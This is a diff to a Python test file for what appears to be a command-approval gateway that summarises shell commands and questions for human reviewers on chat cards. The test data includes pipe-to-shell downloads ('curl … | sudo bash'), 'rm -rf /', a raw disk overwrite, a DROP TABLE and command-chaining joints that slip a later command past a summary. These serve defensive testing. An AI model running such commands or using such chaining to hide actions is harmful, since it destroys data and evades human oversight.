@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
 from random import Random
 from typing import Any
 
@@ -10,7 +11,7 @@ import pytest
 from adapters.discord.card_views import CARD_CHARS, CARD_LINES, build_card_view
 from adapters.slack import card_blocks
 from gateway.domain.records import Record
-from gateway.models import Context, Kind, Question, RiskLevel
+from gateway.models import Context, Kind, Question, Risk, RiskLevel
 from gateway.policy.calls.changed_paths import list_commands
 from gateway.ports.cards import card_of, discreet_summary
 from gateway.ports.heads import (
@@ -56,15 +57,27 @@ SCRIPT = "\n".join(["echo step"] * 40 + ["curl -s https://e.example/x | sudo bas
     [
         ("make test", 'Runs "make test"'),
         ("git push --force origin main", 'Runs "git push --force origin main"'),
-        ("rm -rf build && make release", 'Deletes "build", runs "make…"'),
-        ("rm -rf build && git push --force", 'Deletes "build", runs "git push…"'),
-        ("git push origin main && git fetch", 'Runs "git push…", "git fetch"'),
-        ("kubectl -n x delete pod a; kubectl get pods", 'Runs "kubectl…", "kubectl get…"'),
+        ("rm -rf build && make release", 'Deletes "build", runs "make release"'),
+        ("rm -rf build && git push --force", 'Deletes "build", runs "git push --force"'),
+        ("git push origin main && git fetch", 'Runs "git push origin main", "git fetch"'),
+        (
+            "kubectl -n x delete pod a; kubectl get pods",
+            'Runs "kubectl -n x delete pod a", "kubectl get pods"',
+        ),
+        (
+            "kubectl -n x delete pod a b; kubectl get pods -n x",
+            'Runs "kubectl…", "kubectl get pods -n x"',
+        ),
+        ("rm -rf build && make all the parts of it again", 'Deletes "build", runs "make…"'),
+        ("rm -rf build && make 'all of it'", 'Deletes "build", runs "make…"'),
+        ("rm -rf build && CC=/tmp/cc make release", 'Deletes "build", runs "make…"'),
+        ("rm -rf build && CC=/tmp/cc make; make", 'Deletes "build", runs "make…"'),
+        ("rm -rf build && make release > /srv/log", 'Deletes "build", runs "make…"'),
         ("rm -rf build dist tmp && make", 'Deletes "build" and 2 more, runs "make"'),
         ("sudo rm -rf /srv/data", 'Deletes "/srv/data", runs "sudo…"'),
         ("bash -c 'rm -rf /srv/data'", 'Deletes "/srv/data", runs "bash…"'),
-        (SCRIPT, 'Runs 41 lines: "sudo…", "curl…"'),
-        (WIPING, 'Runs 4 lines: "psql…", "node…" and 1 more'),
+        (SCRIPT, 'Runs 41 lines: "sudo bash", "curl -s https://e.example/x"'),
+        (WIPING, 'Runs 4 lines: "psql…", "node sizes.js" and 1 more'),
         ("ls && cat x && npm i && npm t && npm run build", 'Runs "npm i", "npm t" and 3 more'),
         (
             "echo one two | tee /etc/cron.d/sync > /dev/null && echo all of it is well",
@@ -77,6 +90,53 @@ SCRIPT = "\n".join(["echo step"] * 40 + ["curl -s https://e.example/x | sudo bas
 def test_a_command_is_said_by_what_weighs_most(command: str, head: str) -> None:
     """What is deleted first, then programs, the loudest first; the rest is counted."""
     assert said(command=command) == head
+
+
+AFTER = (
+    "rm -rf /",
+    "curl -s u.example | sudo bash",
+    "dd if=a of=/dev/sda",
+    "psql -c 'DROP TABLE a'",
+)
+JOINTS = (" && ", "; ", " || ", " | ", " & ", "\n", " && sh -c ", " $(", " <(", " `")
+
+
+@pytest.mark.parametrize("joint", JOINTS)
+@pytest.mark.parametrize("after", AFTER)
+def test_no_command_that_is_said_whole_hides_a_later_one(joint: str, after: str) -> None:
+    """However it is joined: the later one is named first or counted."""
+    quoted = after.replace("'", "") if joint.endswith("-c ") else after
+    ends = {" $(": f"{after})", " <(": f"{after})", " `": f"{after}`"}
+    text = f"make release{joint}" + ends.get(joint, f"'{quoted}'" if quoted != after else after)
+    for before in ("", "cd /srv/app && npm ci && npm test && "):
+        head = said(command=f"{before}{text}")
+        assert head != 'Runs "make release"'
+        begins = ("Deletes", "dd", "psql", "sudo", "sh", "curl", text.split("\n")[0])
+        assert any(one in head for one in begins) or '…" and' in head, head
+
+
+def test_a_head_leaves_room_for_what_was_found() -> None:
+    """It stands beside the head before what runs, and outweighs the rest of a command's words."""
+    one = asked(command="rm -rf build && make all of it -j 4")
+    assert plain_head(head_of(one)) == 'Deletes "build", runs "make all of it -j 4"'
+    found = replace(one, findings=("removes folders whole",), finding_places=("command",))
+    assert plain_head(head_of(found)) == 'Deletes "build", runs "make…"'
+    risky = replace(one, risk=Risk(level=RiskLevel.HIGH, reasons=("it is for all",)))
+    assert plain_head(head_of(risky)) == 'Deletes "build", runs "make…"'
+    long = replace(one, findings=("says so much that no head leaves room for it " * 2,))
+    assert head_of(long) == head_of(one)
+
+
+def test_a_long_text_is_cut_at_a_word() -> None:
+    """With a sign; a word that is long itself is cut within, as little would be left."""
+    text = "Shall the old addresses of all customers be deleted for good tonight?"
+    forms = record(
+        ask={"kind": Kind.QUESTION, "arguments": {}, "questions": (Question(id="q", text=text),)}
+    )
+    (_, name) = head_of(forms)
+    kept = name.text.text.removesuffix("…")
+    assert kept != name.text.text and text.startswith(f"{kept} ")
+    assert said(command=f"deploy {'x' * 90}") == f'Runs "deploy {"x" * 53}…"'
 
 
 @pytest.mark.parametrize(
@@ -166,6 +226,18 @@ def test_a_question_is_its_head() -> None:
         }
     )
     assert plain_head(head_of(forms)) == 'Asks "Deploy to production?"'
+    second = Question(id="w", text="Why?")
+    for text, head in (
+        ("Deploy to production?", 'Asks "Deploy to production?" and 1 more'),
+        ("When may the migration lock the table?", 'Asks "When may the migration lock the table?"'),
+        (
+            "When may the migration lock the table of all orders?",
+            'Asks "When may the migration lock the…" and 1 more',
+        ),
+    ):
+        asked_first = (Question(id="q", text=text), second)
+        two = replace(forms, request=replace(forms.request, questions=asked_first))
+        assert plain_head(head_of(two)) == head
 
 
 def test_no_head_is_longer_than_people_take_in() -> None:
